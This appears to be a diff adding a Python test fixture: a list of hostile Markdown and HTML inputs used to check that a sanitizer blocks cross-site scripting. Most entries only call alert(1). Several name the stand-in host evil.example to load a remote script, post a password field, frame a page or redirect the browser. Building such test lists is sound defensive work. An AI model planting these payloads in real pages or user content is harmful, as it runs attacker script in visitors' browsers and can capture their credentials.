@@ -1,0 +1,51 @@
+"""Payloads that try to run script, load content or smuggle markup through a pathway body.
+
+Drawn from the well-known classes of XSS: script and style tags, event handlers, javascript:
+and data: URLs in every encoding, SVG and MathML, comment, CDATA and noscript mutation
+tricks, and Markdown's own link and image syntax.
+"""
+
+HOSTILE_MARKDOWN = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+    "[click](&#x6A;avascript:alert(1))",
+    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">leading space</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
+    "[click](vbscript:msgbox(1))",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](javascript:alert(1))",
+    "<svg onload=alert(1)><circle r=10 /></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
+    "<form action=\"https://evil.example\"><input name=password></form>",
+    "<style>body{display:none}</style>",
+    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    "<base href=\"https://evil.example/\">",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<table><td background=\"javascript:alert(1)\">cell</td></table>",
+    "<a href=\"https://example.org\" target=\"_blank\" rel=\"opener\">opener</a>",
+    "<h2 id=\"__proto__\" onclick=\"alert(1)\">heading</h2>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<x onclick=alert(1)>custom element</x>",
+    "`<script>alert(1)</script>` in code is shown, not run",
+    "    <script>alert(1)</script>\n",
+]
